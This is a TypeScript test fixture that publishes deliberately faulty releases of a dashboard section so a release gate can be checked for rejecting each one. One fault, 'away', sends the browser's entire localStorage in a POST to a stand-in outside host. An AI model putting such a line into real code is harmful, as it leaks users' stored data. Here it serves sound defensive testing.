import type {MenuEntry} from '@switchboard/contracts/registry/releases/manifest';
import {buildFixture} from '../chaos/fixture-releases.ts';
import {publishAs, publishEdited, type Edit} from '../support/releases/variants.ts';
import type {System} from '../support/system/system.ts';

const REMOTE = 'training';
const BUILT = '1.2.0-gate';

/** The version names the fault of the section, so that one build serves for all: `1.2.0-render`. */
const SECTION = `import {SectionRoot, Typography} from '@switchboard/ui';
import {Link, useLocation} from '@switchboard/router';
import {useEffect, useState} from 'react';
import {manifest} from './manifest.ts';

const fault = RELEASE_VERSION.split('-')[1];
const fail = (where: string) => {
  throw new Error('gate: thrown ' + where);
};

if (fault === 'top') fail('at module top');

const showPicture = (src: string) => document.body.append(Object.assign(document.createElement('img'), {src, alt: ''}));

const block = (milliseconds: number) => {
  const end = performance.now() + milliseconds;
  while (performance.now() < end) Math.sqrt(end);
};

const kept: unknown[] = [];

const header = () => document.querySelector('header')!;

/** Leaves something where a page can, and fails in a tab that finds it without having left it: no visit may change another. */
const leaveTraces = async () => {
  if (sessionStorage.getItem('trace')) return;
  sessionStorage.setItem('trace', 'left');
  const isLeft = localStorage.getItem('trace') ?? (await caches.has('trace'));
  if (isLeft || document.cookie.includes('trace=')) fail('at what another visit left');
  localStorage.setItem('trace', 'left');
  document.cookie = 'trace=left; path=/';
  await caches.open('trace');
};

/** What the section does each time that it is mounted. */
const EFFECTS: Record<string, () => void> = {
  good: () => void leaveTraces(),
  effect: () => fail('in an effect'),
  timer: () => void setTimeout(() => fail('later'), 50),
  promise: () => void Promise.reject(new Error('gate: thrown in a promise')),
  console: () => console.error('gate: an error that is only logged'),
  foreign: () => showPicture('https://elsewhere.example/pixel.png'),
  gone: () => showPicture('/remotes/training/1.0.0/static/media/nothing.png'),
  away: () => void fetch('https://elsewhere.example/', {method: 'POST', body: JSON.stringify({...localStorage})}).catch(() => undefined),
  hide: () => header().style.setProperty('display', 'none'),
  adopt: () => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync('header, nav { visibility: hidden }');
    document.adoptedStyleSheets.push(sheet);
  },
  block: () => block(4000),
  listener: () => window.addEventListener('resize', () => kept.length),
  interval: () => void setInterval(() => kept.length, 60_000),
  memory: () => kept.push(Array.from({length: 500_000}, (_, index) => ({index}))),
};

const ask = async (path: string) => {
  const [, token] = /(?:^|; )switchboard_token=([^;]+)/.exec(document.cookie) ?? [];
  const response = await fetch(path, {headers: {accept: 'application/json', authorization: 'Bearer ' + token}});
  return response.json();
};

/** What only some meet. */
const MET: Record<string, () => Promise<boolean>> = {
  data: async () => (await ask('/training/api/courses?limit=1')).page.total > 0,
  role: async () => (await ask('/api/user')).user.role === 'light_agent',
  language: async () => document.documentElement.lang === 'de',
};

function Faulty() {
  const {pathname} = useLocation();
  const [isMet, setMet] = useState(false);
  if (fault === 'render') fail('in render');
  if (fault === 'second' && pathname.endsWith('/second')) fail('on its second page');
  if (isMet) fail('for some');
  useEffect(() => {
    EFFECTS[fault]?.();
    void MET[fault]?.().then(setMet);
  }, []);
  return (
    <>
      <Typography component="h1" variant="h4">Training{fault === 'axe' ? <button type="button" /> : null}</Typography>
      <Link to="/dashboard/training/second">Second page</Link>
    </>
  );
}

export const canLeave = () => 'allow';

export default function Section() {
  if (fault === 'nothing') return null;
  return <SectionRoot name={manifest.name} title={manifest.title} version={RELEASE_VERSION}><Faulty /></SectionRoot>;
}
`;

/** The fault, and the rule that must reject it. */
export const FAULTS: readonly (readonly [fault: string, rule: string])[] = [
  ['top', 'browser-crash'],
  ['render', 'browser-crash'],
  ['effect', 'browser-crash'],
  ['timer', 'browser-crash'],
  ['promise', 'browser-crash'],
  ['second', 'browser-crash'],
  ['data', 'browser-crash'],
  ['role', 'browser-crash'],
  ['language', 'browser-crash'],
  ['console', 'browser-console'],
  ['foreign', 'browser-policy'],
  ['away', 'browser-policy'],
  ['gone', 'browser-load'],
  ['nothing', 'browser-load'],
  ['axe', 'browser-axe'],
  ['hide', 'browser-shell'],
  ['adopt', 'browser-shell'],
  ['listener', 'browser-leak'],
  ['interval', 'browser-leak'],
  ['block', 'browser-tasks'],
  ['memory', 'browser-heap'],
];

const withMenu = (change: (children: MenuEntry['children']) => MenuEntry['children']): Edit => ({
  record: (release) => ({
    ...release,
    manifest: {
      ...release.manifest,
      menu: release.manifest.menu.map((entry) => ({...entry, children: change(entry.children)})),
    },
  }),
});

/** The fault of the record or the files, and the rule that must reject it. */
export const RECORD_FAULTS: readonly (readonly [fault: string, rule: string, edit: Edit])[] = [
  ['lost', 'public-menu-path', withMenu((children) => children.slice(1))],
  [
    'elsewhere',
    'menu-path-place',
    withMenu((children) => [...children, {label: 'Shifts', path: '/dashboard/team/shifts'}]),
  ],
  [
    'react',
    'needs-version',
    {record: (release) => ({...release, needs: {...release.needs, react: '^18.3.1'}})},
  ],
  [
    'copy',
    'shared-copy',
    {
      file: (path, text, {entry}) =>
        path === entry
          ? `${text};"setState(...): takes an object of state variables to update or a function which returns an object of state variables."`
          : text,
    },
  ],
  [
    'large',
    'size-budget',
    {
      file: (path, text, {modules}) =>
        modules['./Messages']?.includes(path) ? `${text}/*${'x'.repeat(600_000)}*/` : text,
    },
  ],
];

/** A release whose section is faultless, as long as the visits to it are isolated from each other. */
export const GOOD = {remote: REMOTE, version: '1.2.0-good'};

export const faulty = (fault: string) => ({remote: REMOTE, version: `1.2.0-${fault}`});

/** Builds and publishes a release for each of the faults, and the good one; none is active. */
export async function publishFaults(system: System, faults: readonly string[]): Promise<void> {
  await buildFixture({remote: REMOTE, version: BUILT, section: SECTION});
  await publishAs(system, {
    remote: REMOTE,
    versions: [GOOD, ...faults.map(faulty)].map(({version}) => version),
    folder: `dist/releases/${BUILT}`,
  });
}

/** Publishes a release for each fault of a record, made from the builds of `publishFaults`. */
export async function publishRecordFaults(system: System): Promise<void> {
  const folder = `dist/releases/${BUILT}`;
  for (const [fault, , edit] of RECORD_FAULTS)
    await publishEdited(system, {...faulty(fault), folder}, edit);
}
